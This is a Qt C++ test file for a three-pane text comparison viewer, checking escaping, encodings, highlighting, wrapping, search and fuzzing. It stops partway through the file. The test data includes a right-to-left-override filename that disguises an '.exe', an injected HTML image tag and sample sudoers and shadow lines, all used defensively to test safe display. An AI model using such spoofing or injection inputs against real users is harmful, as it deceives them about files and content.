// SPDX-FileCopyrightText: 2026 The Assay developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "ui/tst_preview_support.h"

#include "ui/preview/highlighting.h"
#include "ui/preview/textcompareview.h"
#include "ui/preview/textcontent.h"
#include "ui/preview/textview.h"
#include "ui/preview/wrapmap.h"

#include <QAccessible>
#include <QCheckBox>
#include <QClipboard>
#include <QComboBox>
#include <QElapsedTimer>
#include <QLineEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QStyle>

#include <random>

using namespace assay;
using namespace assay::test;

namespace {

TextContentPtr textOf(const std::string &bytes, TextEncoding encoding = TextEncoding::Automatic)
{
    Context context;
    const auto text = readText(*fake(bytes), encoding, context);
    return text ? *text : nullptr;
}

QString shownText(std::string_view line, bool asIs = false)
{
    return shownLine(line, asIs).text;
}

bool ready(TextCompareView &view, JobRunner &runner)
{
    return QTest::qWaitFor([&] { return !view.isBusy(); }, 60'000) && settled(runner);
}

const std::string script = "#!/bin/sh\n"
                           "# starts the tool\n"
                           "set -eu\n"
                           "\n"
                           "if [ -f \"$HOME/.toolrc\" ]; then\n"
                           "\t. \"$HOME/.toolrc\"\n"
                           "fi\n"
                           "echo tool version 1\n"
                           "exec /opt/demo/lib/tool \"$@\"\n";

std::string replaced(std::string text, std::string_view what, std::string_view with)
{
    text.replace(text.find(what), what.size(), with);
    return text;
}

} // namespace

class TestTextView : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void escapes_data();
    void escapes();
    void origins();
    void longLines();
    void encodings();
    void copiedText();
    void languages_data();
    void languages();
    void ownDefinitions_data();
    void ownDefinitions();
    void highlights();
    void hostileHighlighting();
    void showsThree();
    void missingLinesAreGaps();
    void binary();
    void empty();
    void tooLong();
    void fiveMegabyteLine();
    void failing();
    void shrinks();
    void changes();
    void oneSlowSource();
    void paintsOnlyWhatIsVisible();
    void selectsAndCopies();
    void finds();
    void steps();
    void wrapPointsKeepAll();
    void wraps();
    void wrapMapAgainstViews();
    void hostileText();
    void accessible();
    void pictures();

private:
    JobRunner m_runner;
};

void TestTextView::escapes_data()
{
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<QString>("shown");
    QTest::addColumn<QString>("asIs");
    const auto row = [](const char *name, const QByteArray &line, const QString &shown, const QString &asIs) { QTest::newRow(name) << line << shown << asIs; };
    row("plain", "echo \\n\n", QStringLiteral("echo \\n"), QStringLiteral("echo \\n"));
    row("tabs", "a\tb\t\tc", QStringLiteral("a       b               c"), QStringLiteral("a       b               c"));
    row("carriage return", "a\r\n", QStringLiteral("a\\r"), QStringLiteral("a\r"));
    row("escape", "\x1b[31m", QStringLiteral("\\u{001B}[31m"), QStringLiteral("\x1b[31m"));
    row("nul", QByteArray("a\0b", 3), QStringLiteral("a\\u{0000}b"), QStringLiteral("a\\u{0000}b"));
    row("right to left", "photo_\xe2\x80\xaegpj.exe", QStringLiteral("photo_\\u{202E}gpj.exe"), QStringLiteral("photo_\u202Egpj.exe"));
    row("zero width", "a\xe2\x80\x8b" "b", QStringLiteral("a\\u{200B}b"), QStringLiteral("a\u200Bb"));
    row("line separator", "a\xe2\x80\xa8" "b", QStringLiteral("a\\u{2028}b"), QStringLiteral("a\\u{2028}b"));
    row("not UTF-8", "a\xff\xc3" "b", QStringLiteral("a\\xFF\\xC3b"), QStringLiteral("a\\xFF\\xC3b"));
    row("umlaut", "\xc3\xa4", QStringLiteral("ä"), QStringLiteral("ä"));
    row("beyond the BMP", "\xf0\x9f\x98\x80", QStringLiteral("😀"), QStringLiteral("😀"));
}

void TestTextView::escapes()
{
    QFETCH(QByteArray, line);
    QFETCH(QString, shown);
    QFETCH(QString, asIs);
    const std::string bytes = line.toStdString();
    QCOMPARE(shownText(bytes), shown);
    QCOMPARE(shownText(bytes, true), asIs);
}

void TestTextView::origins()
{
    const ShownLine line = shownLine("a\tb\xffz\n", false);
    QCOMPARE(line.text, QStringLiteral("a       b\\xFFz"));
    QCOMPARE(line.origin.size(), static_cast<std::size_t>(line.text.size()) + 1);
    QCOMPARE(line.origin.front(), 0U);
    QCOMPARE(line.origin[7], 1U);  // in the tab
    QCOMPARE(line.origin[8], 2U);  // b
    QCOMPARE(line.origin[10], 3U); // in \xFF
    QCOMPARE(line.origin.back(), 5U);
    QCOMPARE(line.escapes.size(), std::size_t{1});
    QVERIFY(std::is_sorted(line.origin.begin(), line.origin.end()));
}

void TestTextView::longLines()
{
    const ShownLine line = shownLine(std::string(5'000'000, 'x') + "\n", false);
    QCOMPARE(line.text.size(), static_cast<qsizetype>(shownLineLimit));
    QCOMPARE(line.cutBytes, 5'000'000U - static_cast<std::uint32_t>(shownLineLimit));
}

void TestTextView::encodings()
{
    const TextContentPtr little = textOf(std::string("\xff\xfe" "a\0\xe4\0\n\0", 8));
    QCOMPARE(little->encoding, TextEncoding::Utf16Le);
    QCOMPARE(QByteArray::fromStdString(little->bytes), QByteArray("\xef\xbb\xbf" "a\xc3\xa4\n"));
    const TextContentPtr big = textOf(std::string("\xfe\xff\0a\xd8\x3d\xde\x00\xd8\x00", 10));
    QCOMPARE(big->encoding, TextEncoding::Utf16Be);
    QCOMPARE(shownText(big->bytes), QStringLiteral("\\u{FEFF}a😀\\xED\\xA0\\x80")); // a lone surrogate is not hidden
    QCOMPARE(big->invalidBytes, std::uint64_t{5});
    const TextContentPtr latin = textOf("\xe4", TextEncoding::Latin1);
    QCOMPARE(shownText(latin->bytes), QStringLiteral("ä"));
    QCOMPARE(textOf("\xe4")->invalidBytes, std::uint64_t{1});
    // A character that the limit would cut in two is left for later whole.
    std::string large(textByteLimit - 1, 'x');
    large += "\xc3\xa4 and more";
    QCOMPARE(textOf(large)->shownSize, textByteLimit - 1);
    QCOMPARE(textOf(large)->invalidBytes, std::uint64_t{0});
    QVERIFY(textOf(large)->cut());
}

void TestTextView::copiedText()
{
    QCOMPARE(copyText("a\\n\tb\nc", false), std::string("a\\n\tb\nc")); // nothing hidden: as it is
    QCOMPARE(copyText("a\\\x1b\nb", false), std::string("a\\\\\\u{001B}\nb"));
    QCOMPARE(copyText("\xe2\x80\xae", false), std::string("\\u{202E}"));
    QCOMPARE(copyText("\xe2\x80\xae", true), std::string("\xe2\x80\xae"));
    QCOMPARE(copyText("\xff", false), std::string("\\xFF"));
}

void TestTextView::languages_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("beginning");
    QTest::addColumn<QString>("language");
    const auto row = [](const char *path, const char *beginning, const char *language) {
        QTest::addRow("%s %.20s", path, beginning) << QString::fromLatin1(path) << QByteArray(beginning) << QString::fromLatin1(language);
    };
    row("opt/tool", "#!/bin/sh\n", "Bash");
    row("opt/tool", "#! /usr/bin/env -S LANG=C python3.11 -u\n", "Python");
    row("opt/tool.txt", "#!/usr/bin/perl -w\n", "Perl");
    row("opt/tool", "#!\n", "");
    row("a/b.py", "import os\n", "Python");
    row("a/noname", "<?xml version=\"1.0\"?>\n", "XML");
    row("a/noname", "\xEF\xBB\xBF\n <?xml version=\"1.0\"?>\n", "XML");
    row("blobs/sha256/0123", "{\"architecture\":\"amd64\"", "JSON");
    row("a/noname", "nothing in particular", "");
    row("etc/systemd/system/x.service", "[Unit]\n", "systemd unit");
    row("var/lib/dpkg/status", "Package: a\n", "Debian Package Status");
    row("srv/root/var/lib/dpkg/status", "Package: a\n", "Debian Package Status");
    row("var/lib/dpkg/status.d/base", "Package: a\n", "Debian Package Status");
    row("myvar/lib/dpkg/statusx", "Package: a\n", "");
    row("lib/apk/db/installed", "C:Q1\n", "Alpine Package Status");
    row("etc/passwd", "root:x:0:0:\n", "Unix Accounts");
    row("etc/passwd-", "root:x:0:0:\n", "Unix Accounts");
    row("etc/shadow", "root:*:\n", "Unix Shadow Passwords");
    row("etc/group", "root:x:0:\n", "Unix Groups");
    row("etc/crontab", "", "System Crontab");
    row("etc/cron.d/job", "", "System Crontab");
    row("var/spool/cron/crontabs/root", "", "User Crontab");
    row("etc/sudoers.d/x", "", "Sudoers");
    row("etc/apt/sources.list.d/x.list", "", "APT Sources");
    row("etc/os-release", "", "Bash");
    row("", "", "");
}

void TestTextView::languages()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, beginning);
    QFETCH(QString, language);
    QCOMPARE(languageOf(path.toStdString(), beginning.toStdString()), language);
}

void TestTextView::ownDefinitions_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<QByteArray>("line");
    QTest::newRow("dpkg") << QStringLiteral("Debian Package Status") << QByteArray("Package: adduser\nStatus: install ok installed\n");
    QTest::newRow("apk") << QStringLiteral("Alpine Package Status") << QByteArray("P:musl\nV:1.2.3-r0\n");
    QTest::newRow("passwd") << QStringLiteral("Unix Accounts") << QByteArray("root:x:0:0:root:/root:/bin/bash\n");
    QTest::newRow("group") << QStringLiteral("Unix Groups") << QByteArray("sudo:x:27:a,b\n");
    QTest::newRow("shadow") << QStringLiteral("Unix Shadow Passwords") << QByteArray("root:$6$salt$hash:19000:0:99999:7:::\n");
    QTest::newRow("crontab") << QStringLiteral("System Crontab") << QByteArray("17 * * * * root cd / && run-parts /etc/cron.hourly\n");
    QTest::newRow("user crontab") << QStringLiteral("User Crontab") << QByteArray("@reboot /usr/bin/true\n");
    QTest::newRow("sudoers") << QStringLiteral("Sudoers") << QByteArray("Defaults env_reset\nroot ALL=(ALL:ALL) NOPASSWD: ALL\n");
    QTest::newRow("apt") << QStringLiteral("APT Sources") << QByteArray("deb [trusted=yes] http://archive.example.org/debian bookworm main\n");
}

void TestTextView::ownDefinitions()
{
    QFETCH(QString, language);
    QFETCH(QByteArray, line);
    const TextContentPtr text = textOf(line.toStdString());
    for (const bool dark : {false, true}) {
        Highlighter highlighter(text, language, dark);
        Context context;
        const auto lines = highlighter.lines(0, text->lineCount(), context);
        QVERIFY(lines.has_value());
        for (const HighlightedLine &spans : *lines)
            QVERIFY(!spans.empty());
    }
}

void TestTextView::highlights()
{
    std::string bytes = "x = '''\n";
    for (int i = 0; i < 3000; ++i)
        bytes += "still the same string\n";
    bytes += "'''\nif x: pass\n";
    const TextContentPtr text = textOf(bytes);
    Context context;
    Highlighter highlighter(text, QStringLiteral("Python"), false);
    // The state of the beginning is known at the end.
    const auto middle = highlighter.lines(2000, 2001, context);
    QVERIFY(middle.has_value() && middle->front().size() == 1);
    const auto end = highlighter.lines(3002, 3003, context);
    QVERIFY(end.has_value() && end->front().size() > 1);
    QVERIFY(end->front().front().bold); // "if"
    // Out of range and cancelled.
    QVERIFY(highlighter.lines(90'000, 90'001, context)->empty());
    context.cancel();
    QCOMPARE(highlighter.lines(0, 3000, context).error().code, ErrorCode::Cancelled);
    Context other;
    Highlighter unknown(text, QStringLiteral("no such language"), true);
    QVERIFY(unknown.lines(0, 10, other).has_value());
}

void TestTextView::hostileHighlighting()
{
    // Nested and unclosed things on long lines, in languages with many expressions.
    std::string bytes;
    for (int i = 0; i < 40; ++i)
        bytes += std::string(2000, "({[<\"'`$"[i % 8]) + std::string(2000, 'a') + "\n";
    const TextContentPtr text = textOf(bytes);
    QElapsedTimer clock;
    clock.start();
    for (const QString &language : {QStringLiteral("Bash"), QStringLiteral("Perl"), QStringLiteral("C++"), QStringLiteral("Markdown"), QStringLiteral("PHP/PHP")}) {
        Context context;
        Highlighter highlighter(text, language, false);
        QVERIFY(highlighter.lines(0, text->lineCount(), context).has_value());
    }
    qInfo("hostile lines in five languages: %lld ms", static_cast<long long>(clock.elapsed()));
}

void TestTextView::showsThree()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), fake(script), fake(replaced(script, "version 1", "version X"))), "opt/demo/bin/tool.sh");
    QVERIFY(ready(view, m_runner));
    view.grab();
    QVERIFY(settled(m_runner));
    QCOMPARE(view.rows()->alignment.runs, (std::vector<std::uint32_t>{7}));
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("8 ≠ echo tool version 1\n")));
    QVERIFY(view.view(2)->visibleText().contains(QStringLiteral("8 ≠ echo tool version X\n")));
    QVERIFY(view.view(2)->visibleText().contains(QStringLiteral("7   fi\n")));
}

void TestTextView::missingLinesAreGaps()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake("a\nc\n"), fake("a\nb\nc\n"), nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QCOMPARE(view.view(0)->rowCount(), quint64{3});
    QVERIFY(view.view(0)->lineOf(1) == AlignedRow::gap);
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("(no such line)")));
    QCOMPARE(view.view(2)->message(), QStringLiteral("Not in this source"));
}

void TestTextView::binary()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const auto big = std::make_shared<FakeSource>(std::uint64_t{10'000'000'000}, std::vector<std::pair<std::uint64_t, char>>{});
    view.setContents(panes(fake(std::string("\x7f" "ELF\0\0", 6)), fake("text\n"), big), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->message().contains(QStringLiteral("binary")));
    QVERIFY(view.view(2)->message().contains(QStringLiteral("binary")));
    QVERIFY(big->bytesRead.load() <= 8 * 1024);
    QVERIFY(view.view(1)->visibleText().contains(QStringLiteral("text")));
    QSignalSpy spy(&view, &TextCompareView::hexRequested);
    auto *button = view.view(0)->findChild<QPushButton *>(QStringLiteral("messageButton"));
    QVERIFY(button);
    button->click();
    QCOMPARE(spy.count(), 1);
}

void TestTextView::empty()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake({}), fake("a\n"), fake({})), "f");
    QVERIFY(ready(view, m_runner));
    view.grab();
    QCOMPARE(view.view(0)->rowCount(), quint64{1});
    for (const Qt::Key key : {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_End, Qt::Key_PageDown, Qt::Key_A})
        QTest::keyClick(view.view(0), key, key == Qt::Key_A ? Qt::ControlModifier : Qt::NoModifier);
    view.setContents(panes(fake({}), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    view.grab();
    for (const Qt::Key key : {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_End, Qt::Key_PageDown})
        QTest::keyClick(view.view(0), key);
    view.find(QStringLiteral("x"), false, false);
    QVERIFY(ready(view, m_runner));
}

void TestTextView::tooLong()
{
    std::string bytes;
    while (bytes.size() < textByteLimit + 100'000)
        bytes += "one more line of this file\n";
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const auto source = fake(bytes);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().startsWith(QStringLiteral("First 8 MiB of ")));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("use Hex for the rest")));
    QVERIFY(source->bytesRead.load() <= textByteLimit);
    QCOMPARE(source->readsInWindowThread.load(), 0);
}

void TestTextView::fiveMegabyteLine()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(std::string(5'000'000, 'x')), fake(std::string(5'000'000, 'y') + "\n"), nullptr), "f.py");
    QVERIFY(ready(view, m_runner));
    QElapsedTimer clock;
    clock.start();
    view.grab();
    QVERIFY(clock.elapsed() < 3000);
    QVERIFY(settled(m_runner));
    QCOMPARE(view.rows()->alignment.runs.size(), std::size_t{1});
    QTest::keyClick(view.view(0), Qt::Key_End);
    QVERIFY(view.view(0)->horizontalScrollBar()->value() > 10'000);
    QCOMPARE(view.view(1)->horizontalScrollBar()->value(), view.view(0)->horizontalScrollBar()->value());
    view.grab();
}

void TestTextView::failing()
{
    const auto source = fake(script);
    source->failFrom = 3;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, fake(script), nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->message().contains(QStringLiteral("input/output error")));
    QVERIFY(view.view(1)->visibleText().contains(QStringLiteral("#!/bin/sh")));
}

void TestTextView::shrinks()
{
    const auto source = fake(script);
    source->shrunkTo = 12;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("Ends earlier")));
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("#!/bin/sh")));
}

void TestTextView::changes()
{
    const auto source = fake(script);
    source->changed = true;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("Changed while it was read")));
}

void TestTextView::oneSlowSource()
{
    QSemaphore gate;
    const auto slow = fake(script);
    slow->gate = &gate;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), nullptr, slow), "f");
    QTRY_COMPARE(view.view(2)->message(), QStringLiteral("Reading…"));
    QTRY_VERIFY(view.view(0)->visibleText().contains(QStringLiteral("#!/bin/sh")));
    gate.release(100);
    QTRY_VERIFY(view.view(2)->visibleText().contains(QStringLiteral("#!/bin/sh")));
    QVERIFY(view.view(2)->message().isEmpty());
    QVERIFY(ready(view, m_runner));
}

void TestTextView::paintsOnlyWhatIsVisible()
{
    std::string bytes;
    for (int i = 0; i < 150'000; ++i)
        bytes += "line number " + std::to_string(i) + " of a long file\n";
    TextCompareView view(m_runner);
    view.resize(1300, 500);
    view.setContents(panes(fake(bytes), fake(bytes), fake(bytes)), "long.py");
    QVERIFY(ready(view, m_runner));
    QElapsedTimer clock;
    clock.start();
    for (int i = 0; i < 20; ++i) {
        view.view(0)->setTopRow(static_cast<quint64>(i) * 7000);
        view.grab();
    }
    const qint64 each = clock.elapsed() / 20;
    qInfo("a paint of three panes of 150,000 lines: %lld ms", static_cast<long long>(each));
    QVERIFY(settled(m_runner));
    QCOMPARE(view.view(2)->topRow(), view.view(0)->topRow());
}

void TestTextView::selectsAndCopies()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake("a\tb\n\x1b[31mred\nend"), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    TextView *text = view.view(0);
    QTest::keyClick(text, Qt::Key_A, Qt::ControlModifier);
    QCOMPARE(QByteArray::fromStdString(text->selectedBytes()), QByteArray("a\tb\n\x1b[31mred\nend"));
    QTest::keyClick(text, Qt::Key_C, Qt::ControlModifier);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("a\\tb\n\\u{001B}[31mred\nend"));
    view.copySelection(true);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("a\tb\n\x1b[31mred\nend"));
    // Half an escape is the whole character.
    text->setCursor({1, 3}, {1, 0});
    QCOMPARE(text->selectedBytes(), std::string("\x1b"));
    QTest::keyClick(text, Qt::Key_Home, Qt::ControlModifier);
    QTest::keyClick(text, Qt::Key_Down, Qt::ShiftModifier);
    QCOMPARE(text->selectedBytes(), std::string("a\tb\n"));
    QTest::mouseDClick(text->viewport(), Qt::LeftButton, {}, QPoint(text->viewport()->width() / 8, text->lineHeight() * 5 / 2));
    QTest::mousePress(text->viewport(), Qt::LeftButton, {}, QPoint(60, 5));
    QTest::mouseRelease(text->viewport(), Qt::LeftButton, {}, QPoint(60, 5));
    QVERIFY(!text->hasSelection());
}

void TestTextView::finds()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QSignalSpy messages(&view, &TextCompareView::statusMessage);
    TextView *text = view.view(0);
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->selectedBytes(), std::string("toolrc"));
    QCOMPARE(text->cursor().row, quint64{4});
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{5});
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{4});
    QVERIFY(messages.last().at(0).toString().contains(QStringLiteral("Wrapped")));
    view.find(QStringLiteral("toolrc"), true, true);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{5});
    view.find(QStringLiteral("TOOLRC"), true, true);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(messages.last().at(0).toString(), QStringLiteral("Not found."));
    view.show();
    text->setFocus();
    QTest::keyClick(text, Qt::Key_F, Qt::ControlModifier);
    auto *field = view.findChild<QLineEdit *>(QStringLiteral("textFindField"));
    QVERIFY(field->isVisible());
    QCOMPARE(field->text(), QStringLiteral("toolrc")); // what was selected
    QTest::keyClick(field, Qt::Key_Escape);
    QVERIFY(!field->isVisible());
}

void TestTextView::steps()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const std::string other = replaced(replaced(script, "#!/bin/sh", "#!/bin/bash"), "version 1", "version X");
    view.setContents(panes(fake(script), nullptr, fake(other)), "f");
    QVERIFY(ready(view, m_runner));
    QSignalSpy messages(&view, &TextCompareView::statusMessage);
    QCOMPARE(view.view(0)->cursor(), (TextPlace{0, 7})); // it opens at the first one
    view.stepDifference(false);
    QCOMPARE(view.view(2)->cursor().row, quint64{7});
    view.stepDifference(false);
    QCOMPARE(view.view(0)->cursor().row, quint64{0});
    QVERIFY(messages.last().at(0).toString().contains(QStringLiteral("Wrapped")));
    view.stepDifference(true);
    QCOMPARE(view.view(0)->cursor().row, quint64{7});
    view.setContents(panes(fake(script), nullptr, fake(script)), "f");
    QVERIFY(ready(view, m_runner));
    view.stepDifference(false);
    QCOMPARE(messages.last().at(0).toString(), QStringLiteral("These texts are the same."));
}

void TestTextView::wrapPointsKeepAll()
{
    using V = std::vector<std::uint32_t>;
    QCOMPARE(wrapPoints(QString(), 10), V({0}));
    QCOMPARE(wrapPoints(QStringLiteral("0123456789"), 10), V({0}));
    QCOMPARE(wrapPoints(QStringLiteral("0123456789x"), 10), V({0, 10}));
    QCOMPARE(wrapPoints(QStringLiteral("0123456 89x"), 10), V({0, 8})); // behind a space near the end
    QCOMPARE(wrapPoints(QStringLiteral("01 3456789x"), 10), V({0, 10}));
    QCOMPARE(wrapPoints(QStringLiteral("漢字漢字漢"), 4), V({0, 2, 4})); // two cells each
    QCOMPARE(wrapPoints(QStringLiteral("漢字"), 1), V({0, 1}));          // wider than there is room
    QCOMPARE(wrapPoints(QStringLiteral("ae\u0301\u0302bc"), 2), V({0, 4})); // marks stay with their letter
    QCOMPARE(wrapPoints(QStringLiteral("😀😀😀"), 4), V({0, 4}));
    std::mt19937 random(3);
    const QString alphabet = QStringLiteral("ab  漢é\u0301\u200D😀x");
    for (int round = 0; round < 500; ++round) {
        QString text;
        for (std::size_t i = random() % 200; i > 0; --i)
            text += alphabet[static_cast<qsizetype>(random() % static_cast<std::size_t>(alphabet.size()))]; // halves of surrogates, too
        const V begins = wrapPoints(text, 8 + static_cast<int>(random() % 40));
        QCOMPARE(begins.front(), 0U);
        QVERIFY(std::adjacent_find(begins.begin(), begins.end(), std::greater_equal<>()) == begins.end());
        QVERIFY(begins.back() == 0 || begins.back() < static_cast<std::uint32_t>(text.size()));
    }
}

void TestTextView::wraps()
{
    TextCompareView view(m_runner);
    view.resize(900, 300);
    view.show();
    QString words;
    for (int i = 0; i < 100; ++i)
        words += QStringLiteral("word%1 ").arg(i);
    const std::string live = "first\n" + words.toStdString() + "\nlast\n";
    view.setContents(panes(fake("first\nshort\nlast\n"), nullptr, fake(live)), "notes.txt");
    QVERIFY(ready(view, m_runner));
    TextView *wide = view.view(2);
    TextView *narrow = view.view(0);
    QCOMPARE(wide->rowCount(), quint64{3});
    QSignalSpy changed(&view, &TextCompareView::wrappingChanged);
    view.findChild<QCheckBox *>(QStringLiteral("textWrap"))->click();
    QCOMPARE(changed.size(), 1);
    QVERIFY(ready(view, m_runner));
    const quint64 rows = wide->rowCount();
    QVERIFY(rows > 8);
    QCOMPARE(narrow->rowCount(), rows); // lines stay beside lines
    QCOMPARE(wide->horizontalScrollBar()->maximum(), 0);
    picture(view, QStringLiteral("text-wrapped"));
    // Down goes through the parts of a line, and past those that only the other source has.
    const auto walk = [](TextView *of) {
        of->setFocus();
        QTest::keyClick(of, Qt::Key_Home, Qt::ControlModifier);
        int steps = 0;
        for (; of->cursor().row < 2 && steps < 1000; ++steps)
            QTest::keyClick(of, Qt::Key_Down);
        return steps;
    };
    QCOMPARE(walk(wide), static_cast<int>(rows) - 1);
    QVERIFY(wide->visibleText().contains(QStringLiteral("word99 ")) && wide->visibleText().contains(QStringLiteral("3   last")));
    QCOMPARE(walk(narrow), 2);
    QTest::keyClick(narrow, Qt::Key_Up);
    QCOMPARE(narrow->cursor().row, quint64{1});
    QTest::keyClick(wide, Qt::Key_Home, Qt::ControlModifier);
    for (int i = 0; i < 3; ++i)
        QTest::keyClick(wide, Qt::Key_Down);
    const TextPlace third = wide->cursor();
    QVERIFY(third.row == 1 && third.column > 0);
    QTest::keyClick(wide, Qt::Key_Up);
    QVERIFY(wide->cursor().column < third.column);
    // Left from where a part begins, and right again.
    wide->setCursor(third);
    QTest::keyClick(wide, Qt::Key_Left);
    QCOMPARE(wide->cursor().column, third.column - 1);
    QTest::keyClick(wide, Qt::Key_Right);
    QVERIFY(wide->cursor() == third);
    // A click leads where it points.
    QTest::keyClick(wide, Qt::Key_Home, Qt::ControlModifier);
    QTest::mouseClick(wide->viewport(), Qt::LeftButton, {}, QPoint(wide->viewport()->width() - 5, wide->lineHeight() * 3 / 2));
    QCOMPARE(wide->paintedRow(wide->cursor()), quint64{1});
    // Found text is brought into view, and what is selected is what the file holds.
    view.resize(900, 150);
    QVERIFY(ready(view, m_runner));
    view.find(QStringLiteral("word98"), false, true);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(wide->selectedBytes(), std::string("word98"));
    QVERIFY(wide->visibleText().contains(QStringLiteral("word98")));
    // Narrower: more rows; what was at the top stays there.
    const TextPlace top = wide->placeOfPainted(wide->topRow());
    view.resize(500, 150);
    QVERIFY(ready(view, m_runner));
    QVERIFY(wide->rowCount() > rows);
    QCOMPARE(wide->placeOfPainted(wide->topRow()).row, top.row);
    // The next file is wrapped as well; then no more.
    view.setContents(panes(fake(live), nullptr, fake(live)), "other.txt");
    QVERIFY(ready(view, m_runner));
    QVERIFY(narrow->rowCount() > 8);
    view.setWrapping(false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(narrow->rowCount(), quint64{3});
}

// As many rows are counted in the job as the views need.
void TestTextView::wrapMapAgainstViews()
{
    std::mt19937 random(11);
    const std::vector<std::string> pieces{"plain ", "\t", "\xff", "\xe6\xbc\xa2", "e\xcc\x81", "\xe2\x80\xae", "\xf0\x9f\x98\x80", "0123456789", "\r"};
    std::array<std::string, 3> texts;
    for (std::string &text : texts) {
        for (int line = 0; line < 60; ++line) {
            for (std::size_t i = random() % 60; i > 0; --i)
                text += pieces[random() % pieces.size()];
            text += line == 59 && random() % 2 == 0 ? "" : "\n";
        }
    }
    texts[1] += std::string(9000, 'x') + "\n";
    TextCompareView view(m_runner);
    view.resize(1000, 300);
    view.show();
    view.setWrapping(true);
    view.setContents(panes(fake(texts[0]), fake(texts[1]), fake(texts[2])), "x.txt");
    for (const bool asIs : {false, true}) {
        QVERIFY(ready(view, m_runner));
        view.findChild<QCheckBox *>(QStringLiteral("textAsIs"))->setChecked(asIs);
        QVERIFY(ready(view, m_runner));
        for (int side = 0; side < 3; ++side) {
            const TextView *one = view.view(side);
            // Every character has a painted row of its own row, in order.
            quint64 last = 0;
            for (quint64 row = 0; row < view.rows()->alignment.rows.size(); ++row) {
                const std::size_t line = one->lineOf(row);
                if (line == AlignedRow::gap)
                    continue;
                const int size = static_cast<int>(shownLine(one->content()->line(line), asIs).text.size());
                for (int column = 0; column <= size; ++column) {
                    const quint64 painted = one->paintedRow({row, column});
                    QVERIFY(painted >= last && painted < one->rowCount());
                    QCOMPARE(one->placeOfPainted(painted).row, row);
                    QVERIFY(one->placeOfPainted(painted).column <= column);
                    last = painted;
                }
            }
        }
        QVERIFY(!view.grab().isNull());
    }
}

void TestTextView::hostileText()
{
    std::mt19937 random(11);
    TextCompareView view(m_runner);
    view.resize(1000, 300);
    view.show();
    for (int round = 0; round < 60; ++round) {
        std::array<ByteSourcePtr, 3> sources;
        for (auto &source : sources) {
            std::string bytes;
            const std::size_t size = random() % 2000;
            while (bytes.size() < size) {
                static const std::vector<std::string> parts{"\xe2\x80\xae", "\xff", "\n", "\r", "\t", "a", "word", "\x1b[0m", "\xd7\x90\xd7\x91", "\xcc\x81",
                                                            "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x9a\x80", "<img src=\"file:///tmp/x\">", "#!/bin/sh", "\xe2\x80\xa8", "\xed\xa0\x80"};
                bytes += parts[random() % parts.size()];
            }
            if (random() % 5 != 0)
                source = fake(bytes);
        }
        view.setContents(panes(sources[0], sources[1], sources[2]), "hostile");
        QVERIFY(ready(view, m_runner));
        view.findChild<QCheckBox *>(QStringLiteral("textAsIs"))->setChecked(round % 2 == 1);
        for (int i = 0; i < 20; ++i) {
            static const Qt::Key keys[] = {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_Home, Qt::Key_End, Qt::Key_PageDown};
            TextView *current = view.view(static_cast<int>(random() % 3));
            QTest::keyClick(current, keys[random() % 7], random() % 2 == 0 ? Qt::ShiftModifier : Qt::NoModifier);
            current->selectedBytes();
        }
        view.stepDifference(round % 3 == 0);
        view.find(QStringLiteral("word"), false, false);
        view.grab();
        QVERIFY(ready(view, m_runner));
    }
}

void TestTextView::accessible()
{
